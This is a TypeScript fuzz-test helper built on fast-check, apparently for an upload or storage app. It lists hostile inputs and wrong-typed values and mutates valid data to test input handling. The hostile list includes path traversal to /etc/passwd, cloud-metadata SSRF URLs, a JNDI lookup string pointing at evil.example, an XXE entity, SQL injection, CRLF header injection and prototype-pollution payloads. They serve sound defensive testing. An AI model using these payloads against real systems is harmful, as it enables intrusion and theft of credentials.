import fc, { type Arbitrary } from 'fast-check'

/** If it shows up anywhere except where it was entered, a secret has leaked. */
export const SECRET_CANARY = 'canary-secret-f3c1'
/** Part of a URL's query; a log that contains it would contain presigned queries. */
export const QUERY_CANARY = 'canary-signature-9b7e'

/** Texts with a special meaning in a path, URL, header, query, document or on a screen. */
export const HOSTILE_TEXTS: readonly string[] = [
  '',
  ' ',
  '.',
  '..',
  '../../../../etc/passwd',
  '/etc/shadow',
  '/proc/self/environ',
  '\\\\evil.example\\share\\file',
  '\\\\.\\pipe\\x',
  'C:\\Windows\\win.ini',
  'file:///etc/passwd',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  `https://evil.example/k?X-Amz-Signature=${QUERY_CANARY}&X-Amz-Expires=9`,
  'http://evil.example',
  'http://169.254.169.254/latest/meta-data/iam/',
  'http://[fd00:ec2::254]/',
  'http://[::ffff:169.254.169.254]/',
  'http://metadata.google.internal/',
  'http://user:password@127.0.0.1:9/',
  'http://127.0.0.1:9',
  'http://127.0.0.1:9/?a=b#c',
  'https://127.0.0.1:99999',
  'http://0x7f000001:9/',
  'https://xn--80ak6aa92e.example',
  'unix:/var/run/docker.sock',
  '%2e%2e%2f%00',
  'a\u0000b',
  'a\r\nX-Injected: yes\r\n\r\nb',
  '\u001b[31mred\u001b[0m',
  '\u202Egnp.exe',
  '\uD800',
  '\uDFFFa\uD800',
  '\uFFFE\uFFFF',
  'é'.normalize('NFD'),
  '__proto__',
  'constructor',
  'toString',
  "'; DROP TABLE uploads; --",
  '" OR 1=1 --',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '</Key><Key>',
  `$${'{jndi:ldap://evil.example/a}'}`,
  '{name}{hash8}{date}{folder}{..}',
  '{{{{',
  '%s%s%n',
  '-rf',
  'CON',
  'a'.repeat(300),
  'a'.repeat(100_000),
  '\u0000'.repeat(1000),
  '😀'.repeat(2000),
  '['.repeat(5000),
  '{"version":1,"destinations":[{"__proto__":{"a":1}}]}',
  '{"version":1e999}',
]

/** Values of the wrong type that can be sent over IPC (structured clone) or as JSON. */
const JUNK: readonly unknown[] = [
  null,
  undefined,
  true,
  0,
  -1,
  1.5,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  -0,
  2 ** 53,
  1e308,
  10n,
  '',
  'x',
  '__proto__',
  '\uD800',
  'x'.repeat(200_000),
  [],
  [[[[[[]]]]]],
  Array(10_000).fill(0),
  {},
  JSON.parse('{"__proto__":{"isAdmin":true}}'),
  { toString: 'x', valueOf: 1 },
  { length: 1e9 },
  new Date(0),
  new Map([['a', 1]]),
  new Uint8Array(16),
  nested(2000),
]

function nested(depth: number): unknown {
  let value: unknown = 'x'
  for (let level = 0; level < depth; level += 1) value = { a: value }
  return value
}

const EXTRA_NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'bucket', 'key', 'path']

/** A change to a valid value; `where` picks the position, `what` the change. */
export interface Mutation {
  readonly where: number
  readonly what: 'junk' | 'without' | 'extra' | 'whole' | 'inherited'
  readonly junk: number
}

export const mutations: Arbitrary<Mutation> = fc.record({
  where: fc.nat(1000),
  what: fc.constantFrom('junk', 'junk', 'junk', 'without', 'extra', 'whole', 'inherited'),
  junk: fc.nat(1000),
})

export function mutated(input: unknown, { where, what, junk }: Mutation): unknown {
  const bad = JUNK[junk % JUNK.length]
  if (what === 'whole') return bad
  if (what === 'inherited') return Object.create(structuredClone(input) as object)
  const copy = structuredClone(input)
  const places = placesIn(copy)
  const place = places[where % places.length]
  if (place === undefined) return bad
  const { holder, key } = place
  if (what === 'without') delete (holder as Record<string, unknown>)[key]
  else if (what === 'extra') define(holder, EXTRA_NAMES[junk % EXTRA_NAMES.length] ?? 'x', bad)
  else define(holder, key, bad)
  return copy
}

/** Defines an own property, even for the name `__proto__`, as JSON and structured clone do. */
function define(holder: object, key: string, value: unknown): void {
  Object.defineProperty(holder, key, {
    value,
    enumerable: true,
    writable: true,
    configurable: true,
  })
}

function placesIn(value: unknown): { readonly holder: object; readonly key: string }[] {
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([key, inner]) => [
    { holder: value, key },
    ...placesIn(inner),
  ])
}
